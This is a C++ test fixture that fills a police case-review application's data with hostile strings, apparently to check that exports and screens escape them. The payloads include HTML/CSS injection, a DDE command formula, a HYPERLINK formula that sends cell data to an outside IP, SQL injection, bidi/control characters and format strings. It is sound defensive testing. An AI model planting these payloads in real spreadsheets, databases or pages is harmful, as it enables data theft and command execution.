// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/payload_force.h"

#include "core/base/visible_text.h"

#include <algorithm>

namespace casegrip::test
{
namespace
{

constexpr const char *waiting = "99260000201", *approved = "99260000202"; // stalking too

std::string twoDigits(std::size_t i)
{
    return (i < 10 ? "0" : "") + std::to_string(i);
}

// A CSV file cannot hold these: such a row is refused, and its text is that of a refused row.
bool isForCsv(const std::string &text)
{
    return text.find('\0') == std::string::npos && text.find('\r') == std::string::npos;
}

} // namespace

std::vector<Payload> payloads(const std::string &canary)
{
    return {{"image", "<b>x</b><img src=\"file://" + canary + "\">"},
            {"link", "<a href=\"file://" + canary + "\">the statement</a>"},
            {"style", "<style>*{background:url(file://" + canary + ")}</style><p style=\"background-image:url('" + canary + "')\">x"},
            {"entities", "Smith &amp; Sons &lt;b&gt;"},
            {"hyperlink", "=HYPERLINK(\"http://198.51.100.1/?\"&A1)"},
            {"exchange", "=cmd|'/c calc'!A1"},
            {"at", "@SUM(1+1)"},
            {"plus", "+1+1"},
            {"minus", "-1+1"},
            {"full width", "\xEF\xBC\x9D" "1+1"},
            {"tab", "\t=1+1"},
            {"carriage return", "\r=1+1"},
            {"turned round", "PC \u202e4321\u202c \u2066x\u2069"},
            {"unseen", "a\u200bb\u200f\ufeffc"},
            {"controls", "a\x01\x07\x08" "b\x7f\u009b31m"},
            {"escape", "\x1b[31mred\x1b[0m\x1b]0;title\x07"},
            {"nothing", std::string("a\0b", 3)},
            {"placeholders", "50%2 of %1 and %n %L1"},
            {"braces", "{} {:>2000000000} {0}"},
            {"long", std::string(20'000, 'x')},
            {"lines", "first\nsecond\n=1+1"},
            {"statement", "'; DROP TABLE cases; -- \"x\""},
            {"mnemonic", "&Mnemonic && co"},
            {"object", "\"}],\"x\":{\"y\":[\""}};
}

bool showsPayload(const QString &text)
{
    static const QStringList signs = {QStringLiteral("<img"), QStringLiteral("<a href"), QStringLiteral("<style"), QStringLiteral("&amp;"), QStringLiteral("&lt;"),
                                      QStringLiteral("HYPERLINK"), QStringLiteral("/c calc"), QStringLiteral("SUM(1"), QStringLiteral("1+1"),
                                      QStringLiteral("4321"), QStringLiteral("50%2"), QStringLiteral("2000000000"), QStringLiteral("xxxxxxxx"),
                                      QStringLiteral("DROP TABLE"), QStringLiteral("Mnemonic"), QStringLiteral("\"}],")};
    return std::any_of(signs.begin(), signs.end(), [&text](const QString &sign) { return text.contains(sign); });
}

bool hasHidden(const QString &text)
{
    QString rest = text;
    for (const QChar lineOrTab : {QChar(u'\n'), QChar(u'\t'), QChar(QChar::LineSeparator)})
        rest.remove(lineOrTab);
    const std::string utf8 = rest.toStdString();
    return visibleText(utf8) != utf8;
}

std::string PayloadForce::caseNo(std::size_t i)
{
    return "992600001" + twoDigits(i);
}

PayloadForce::PayloadForce(const std::string &canary) : texts(payloads(canary))
{
    addRows();
    force.sync();
    replaceForms();
    installFramework();
    workOnCases();
    review();
    arrange();
}

void PayloadForce::addRows()
{
    ExportTables &tables = force.tables;
    for (std::size_t i = 0; i < texts.size(); ++i) {
        const std::string &said = texts[i].text;
        if (!isForCsv(said)) {
            tables.events.add({{"case_no", ReviewedForce::burglary}, {"at", "2026-02-11T10:00:00Z"}, {"kind", "contacted"}, {"note", said}});
            tables.units.add({{"team", "X" + twoDigits(i)}, {"area", said}});
            continue;
        }
        const std::string officer = said.size() < 200 ? said : "P" + twoDigits(i);
        tables.officers.add({{"officer_id", officer}, {"collar", said}, {"name", said}, {"rank", i % 2 == 0 ? "constable" : said},
                             {"team", "T1"}, {"login", said}, {"acting_rank", i % 3 == 0 ? said : ""}, {"active", "yes"}});
        tables.units.add({{"team", officer}, {"name", said}, {"area", said}, {"force", said}, {"kind", said}});
        tables.cases.add({{"case_no", caseNo(i)}, {"recorded_at", "2026-02-04T10:00:00Z"}, {"allocated_at", "2026-02-04T10:00:00Z"},
                          {"oic_id", officer}, {"supervisor_id", officer}, {"first_team", officer}, {"team", "T1"},
                          {"class", i % 2 == 0 ? "28E" : said}, {"class_title", said}, {"included_classes", said}, {"flags", said},
                          {"risk", said}, {"risk_tool", said}, {"status", "open"}, {"outcome", said}, {"victim_type", said},
                          {"victim_supports", said}, {"suspect", said}, {"summary", said}});
        tables.events.add({{"case_no", caseNo(i)}, {"at", "2026-02-10T10:00:00Z"}, {"kind", "contacted"}, {"officer_id", officer}, {"team", officer},
                           {"outcome", said}, {"note", said}});
        tables.reviews.add({{"review_ref", caseNo(i) + "-1"}, {"case_no", caseNo(i)}, {"kind", "initial_standard"},
                            {"completed_at", "2026-02-05T10:00:00Z"}, {"reviewer_id", officer}, {"decision", said}, {"text", said}});
        tables.events.add({{"case_no", caseNo(i)}, {"at", said}, {"kind", said}}); // refused, and kept as it is
        tables.cases.add({{"case_no", said}, {"recorded_at", said}, {"team", said}, {"status", said}});
    }
    for (const char *further : {waiting, approved})
        force.addOpenCase(further, "2026-03-05T08:00:00Z", text(0), "8Q");
    for (auto *rows : {&tables.units.rows, &tables.officers.rows}) {
        for (auto &row : *rows) {
            for (auto &[column, value] : row) {
                if (column == "name" && (value.starts_with("Team 1") || value == "Ann Constable"))
                    value = text(0); // what most pages show
            }
        }
    }
}

// The labels of the forms, which the window is given; the commands read the shipped ones.
void PayloadForce::replaceForms()
{
    std::vector<forms::LibraryFile> files = forms::Library::shippedTemplateFiles();
    for (forms::LibraryFile &file : files) {
        QString json = QString::fromStdString(file.bytes);
        for (const char *field : {"label", "title", "why", "help", "exemplar"}) {
            const QString begin = QStringLiteral("\"%1\": \"").arg(QLatin1String(field));
            QString said = QString::fromStdString(text(0) + ' ' + text(3) + " %1 &Mnemonic ");
            json.replace(begin, begin + said.replace(QLatin1Char('"'), QLatin1String("'")));
        }
        file.bytes = json.toStdString();
    }
    force.library = std::make_shared<const forms::Library>(files, shippedGuidanceFiles());
}

void PayloadForce::installFramework()
{
    framework::Framework framework = framework::shippedDefault();
    framework.version = "2";
    framework.title = text(0);
    framework.effectiveFrom = parseInstant("2020-01-01T00:00:00Z", framework.zone);
    for (auto &rule : framework.approvals.needed)
        rule.title = text(0);
    std::size_t i = 0;
    for (auto &reason : framework.approvals.returnReasons)
        reason.label = text(i++);
    auto opened = force.open("nobody");
    NoProgress silent;
    must(opened.installFramework(framework, silent));
    must(opened.setSetting("marking", text(0)));
}

void PayloadForce::attempt(workspace::Workspace &opened, const workspace::Operation &operation)
{
    force.passMinutes(1);
    const auto done = opened.run(operation);
    if (!done && done.error().kind != ErrorKind::Invalid && done.error().kind != ErrorKind::Refused)
        throw std::runtime_error(toString(done.error()));
    entries += done ? 1 : 0;
}

void PayloadForce::workOnCases()
{
    auto opened = force.open("pi300");
    const Instant tomorrow = force.clock.now() + std::chrono::hours{24};
    for (std::size_t i = 0; i < texts.size(); ++i) {
        attempt(opened, workspace::AddNote{ReviewedForce::burglary, text(i)});
        attempt(opened, workspace::GiveDirection{ReviewedForce::assault, text(i), "oic", i % 2 == 0 ? "C100" : "", tomorrow});
    }
    for (std::size_t i = 0; i < 4; ++i) {
        attempt(opened, workspace::ManualRedBox{ReviewedForce::burglary, next(), i % 2 == 1});
        attempt(opened, workspace::Snooze{caseNo(i), tomorrow, next()});
    }
    const auto given = must(opened.directions({false, ReviewedForce::assault, false}));
    for (std::size_t i = 0; i < given.size() && i < 12; ++i) {
        const auto closing = i % 3 == 0 ? reviews::Closing::Done : i % 3 == 1 ? reviews::Closing::Overdue : reviews::Closing::NotNeeded;
        for (int times = 0; times < (closing == reviews::Closing::Overdue ? 2 : 1); ++times) // the second time is a theme
            attempt(opened, workspace::CloseDirection{given[i].entryId, closing, next(),
                                                      closing == reviews::Closing::Overdue ? std::optional(tomorrow + std::chrono::hours{times + 1}) : std::nullopt});
    }
    must(opened.recordViewed({ReviewedForce::burglary, {}}));
    must(opened.recordSearched({text(0), 3}));
}

reviews::Draft PayloadForce::draftOf(workspace::Workspace &opened, const std::string &caseNo)
{
    const auto begun = must(opened.beginReview({caseNo, {}, {}}));
    reviews::Draft draft = completed(begun.fresh, *begun.form);
    for (auto &[place, answer] : draft.answers.given) {
        const forms::Question *question = begun.form->find(place.id);
        if (question && question->type == forms::QuestionType::Text)
            answer.value = next() + " seen and discussed with the officer in the case";
    }
    for (auto &[place, reason] : draft.answers.overrides)
        reason = next() + ", for a reason of its own";
    return draft;
}

std::string PayloadForce::sign(const std::string &login, const std::string &caseNo)
{
    force.passMinutes(1);
    auto opened = force.open(login);
    const auto draft = draftOf(opened, caseNo);
    if (opened.run(workspace::SubmitReview{draft, {}, {}})) {
        ++entries;
        return draft.ref;
    }
    // An answer was not one of those that the form takes: the same without payloads.
    const auto plain = begunAndCompleted(opened, caseNo);
    must(opened.run(workspace::SubmitReview{plain, {}, {}}));
    ++entries;
    return plain.ref;
}

void PayloadForce::review()
{
    for (const char *one : {ReviewedForce::stalking, waiting, approved})
        refs.push_back(sign("ps200", one));
    {
        auto opened = force.open("pi300");
        const auto read = [&](const std::string &ref) {
            return workspace::VersionRead{ref, journal::toHex(must(opened.findReview(ref)).state.latest().hash)};
        };
        attempt(opened, workspace::ReturnReview{read(refs[0]), "perishable", text(0)});
        attempt(opened, workspace::ApproveReview{read(refs[2]), text(0)});
    }
    refs.push_back(sign("pi300", ReviewedForce::burglary));
    refs.push_back(sign("pi300", caseNo(3)));
    auto opened = force.open("pi300");
    for (std::size_t i = 0; i < texts.size(); ++i)
        attempt(opened, workspace::AddAddendum{refs[3], text(i)});
    attempt(opened, workspace::WithdrawReview{refs[4], text(0)});
    must(opened.saveDraft(draftOf(opened, caseNo(0))));
}

void PayloadForce::arrange()
{
    auto opened = force.open("ci400");
    const Instant now = force.clock.now();
    attempt(opened, workspace::GiveCover{"S200", "I300", now, now + std::chrono::hours{48}, text(0)});
    attempt(opened, workspace::RecordAbsence{"S200", now, now + std::chrono::hours{48}});
    attempt(opened, workspace::DeclareInterest{caseNo(4), text(0), {}});
    for (std::size_t i = 0; i < texts.size(); ++i)
        attempt(opened, workspace::Annotate{{toDay(2026, 2, 1), {}, {}, text(i), text(i)}});
}

} // namespace casegrip::test
